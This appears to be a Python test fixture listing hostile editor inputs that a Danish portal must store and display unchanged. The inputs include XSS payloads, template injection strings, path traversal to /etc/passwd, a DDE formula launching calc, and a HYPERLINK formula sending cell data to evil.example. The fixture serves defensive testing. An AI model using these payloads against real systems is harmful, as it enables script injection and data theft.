"""What somebody might write to break the portal, and what must arrive letter for letter: see hostile_refused.py too.

Each of the texts stands in every field in which an editor writes freely.
"""

LITERAL = {
    # HTML
    "element": "<b>fed</b><img src=x onerror=alert(1)>",
    "end-of-script": "</script><script>alert(1)</script>",
    "svg": "\"><svg onload=alert(1)> ' onmouseover='alert(1)",
    "svg-with-script": "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "form": "<form action=//evil.example><button autofocus onfocus=alert(1)>",
    "base-and-meta": "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "end-of-everything": "</title></style></textarea></dialog></table></template>",
    "comment": "<!-- </article> --> ]]> <![CDATA[",
    "open-comment": "<!--><img src=x onerror=alert(1)>",
    "tag-in-two-halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "references": "&lt;b&gt; &amp;amp; &#60;",
    "reference-without-end": "&copy &notin; &#x3c;i&#x3e &NewLine;",
    "quotes": "' \" ` autofocus onfocus=alert(1) x='",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "slot": "<template shadowrootmode=open><slot>",
    "wide-angle": "＜script＞alert(1)＜/script＞",
    # Markdown and its extensions
    "heading": "# Overskrift { onclick=alert(1) }",
    "attr-list": "x {: .fp-kort #indhold onclick=alert(1) }",
    "abbr": "*[112]: ring 900",
    "picture": "![x](http://evil.example/x.png)",
    "links": "[her](javascript:alert(1)) <javascript:alert(1)>",
    "auto-link": "https://evil.example/ www.evil.example evil@evil.example",
    "snippet": '--8<-- "data/portal.yml"',
    "piece": "[[tidslinje]] [[tal:rel_eks]]",
    "source": "[@rapport:s9] [@redaktionelt]",
    "block": "/// udkast | jura",
    "emphasis": "**fed** __x__ ~~y~~ ==z== ^^w^^ `kode`",
    "footnote-and-table": "[^1]: x | a | b |",
    "admonition": '!!! danger "Ring ikke 112"',
    "emoji-code": ":fontawesome-solid-bug: :smile:",
    "glossary": "tilhold <b>stalking</b> stalkingudsat",
    # Templates, formats, placeholders
    "jinja": "{{ 7*7 }}{% raw %}{# #}",
    "jinja-reach": "{{ config.extra.portal }} {{ self.__init__ }}",
    "placeholders": "@ {antal} {0.__class__} %s %(x)s ${x} $& $1 \\u003cb\\u003e",
    "backslash": "C:\\temp\\n \\\\ \\",
    "sentinel": "@ {soegt} {kommune} {kreds}",
    # Spreadsheets, vCard and calendars
    "formula": "=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example?x="&A1)',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+45 99 99 99 99",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd",
    "wide-formula": "＝1+1 ＋2 －3 ＠SUM",
    "separators": 'a;b,c\\,d"e',
    "vcard": "x\\nEND:VCARD BEGIN:VCARD TEL:900",
    "calendar": "x;ALTREP=CID:1:DTSTART;VALUE=DATE:20260101",
    # Addresses and paths
    "script-address": "javascript:alert(1)//",
    "data-address": "data:text/html,<script>alert(1)</script>",
    "path": "../../../etc/passwd %2e%2e%2f",
    # Letters that are no attack
    "emoji": "Zoë 🙂 ☎️ Łódź 🇩🇰 Ñandú",
    "other-writing": "Анна 2, 日本語, שלום, عربى",
    "marks": "e\u0301x\u0323y Nguyễn 7",
    "odd-spaces": "a\u00a0b\u2009c 99\u00a099",
    "prototype": "__proto__ constructor toString",
    "as-long-as-may-be": "W" * 90 + "<i>1</i>",
}
ADDRESSES = (
    "https://www.example.dk/?a=1&copy=2&lt=b&amp;c",
    "https://www.example.dk/javascript:alert(1)",
    "https://www.example.dk:8443/%0d%0aX:1/%3Cscript%3E",
    "https://xn--r-3fa9c.dk/#:~:text=x",
    "HTTPS://WWW.EXAMPLE.DK/(x)*z*__y__",
    "https://www.example.dk//evil.example/..;/@evil",
)
MAILS = ("a.b+c_d@sub.example.dk", "--x@example.dk", "1@a-b.example.dk", "bcc@example.dk", "x.y.z@example.co")
